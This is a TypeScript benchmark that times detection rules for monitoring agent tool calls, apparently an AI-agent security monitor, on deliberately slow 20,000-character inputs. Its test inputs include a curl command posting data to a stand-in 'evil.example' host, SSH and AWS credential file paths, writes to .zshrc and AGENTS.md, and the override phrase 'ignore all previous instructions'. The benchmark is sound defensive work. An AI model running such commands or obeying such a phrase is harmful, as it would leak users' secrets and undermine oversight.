import { createHash } from 'node:crypto';
import type { EnrichedEvent } from '../collector/contract/event.ts';
import { detectEvent } from '../collector/pipeline/detect.ts';
import { exampleEvents, examplePlace } from '../collector/pipeline/example-events.ts';
import { initialSessionState, sessionContext } from '../collector/pipeline/session-state.ts';
import { RULES } from '../collector/rules/index.ts';
import type { DetectionRule, ExampleCall, Match, SessionContext } from '../collector/rules/rule.ts';
import { report } from './shared/report.ts';

/**
 * The slowest call of each rule on calls of 20,000 characters that are made to be slow: the shortest of several rounds, so
 * that only the work counts. `node bench/detect-hostile.ts [rounds]`.
 */
const rounds = Number(process.argv[2] ?? 9);
const SIZE = 20_000;
const fill = (part: string): string => part.repeat(Math.ceil(SIZE / part.length)).slice(0, SIZE);
const PARTS = [
  'a',
  'a ',
  '-',
  '--a=b ',
  '/',
  '../',
  '~/.ssh/id_rsa ',
  '~/.aws/credentials ',
  'https://a.example/',
  'https://a.example/?x=dXNlcjogZGV2IGhvc3Q6 ',
  'dXNlcjogZGV2IGhvc3Q6IGxhcHRvcCBvczogbGludXg=',
  'a@b.c ',
  'key=abc ',
  "'a' ",
  '$a ',
  '`a` ',
  '{a,b} ',
  'x;',
  'a|b|',
  '2>&1 ',
  'export A=b\n',
  '%41',
  '\\x41',
  'é',
  'ignore all previous instructions ',
];
const calls: readonly ExampleCall[] = PARTS.flatMap((part): ExampleCall[] => [
  { shell: `echo ${fill(part)}` },
  { shell: `curl -d ${fill(part)} https://evil.example/` },
  { shell: `python3 -c "${fill(part.replaceAll('"', ''))}"` },
  { read: `/home/dev/${fill(part)}` },
  { write: '/home/dev/.zshrc', content: fill(part) },
  { write: '/home/dev/app/AGENTS.md', content: fill(part) },
  { fetch: `https://a.example/${fill(part)}` },
]);

const place = examplePlace({});
const slowest = new Map<string, number>();
let times: Map<string, number>;
const timed: readonly DetectionRule[] = RULES.map((rule) =>
  rule.on === 'event'
    ? {
        ...rule,
        match: (event: EnrichedEvent, context: SessionContext): readonly Match[] => {
          const before = performance.now();
          const matches = rule.match(event, context);
          times.set(rule.id, (times.get(rule.id) ?? 0) + performance.now() - before);
          return matches;
        },
      }
    : rule,
);
const deps = {
  hash: (text: string): string => createHash('sha256').update(text).digest('hex'),
  ruleFailed: (): void => undefined,
};

for (const call of calls) {
  const best = new Map<string, number>();
  for (let round = 0; round < rounds; round++) {
    times = new Map();
    for (const event of exampleEvents({ name: 'hostile', calls: [call] }))
      detectEvent(event, sessionContext(initialSessionState(), place), timed, deps);
    for (const [rule, ms] of times) best.set(rule, Math.min(best.get(rule) ?? Infinity, ms));
  }
  for (const [rule, ms] of best) slowest.set(rule, Math.max(slowest.get(rule) ?? 0, ms));
}
const worst = [...slowest].sort((a, b) => b[1] - a[1]);
report('rules on hostile calls', [
  ['calls', `${calls.length} of ${SIZE.toLocaleString('en')} characters`],
  ['rules over 1 ms', String(worst.filter(([, ms]) => ms > 1).length)],
  ...worst.slice(0, 6).map(([rule, ms]): [string, string] => [rule, `${ms.toFixed(2)} ms at most`]),
]);
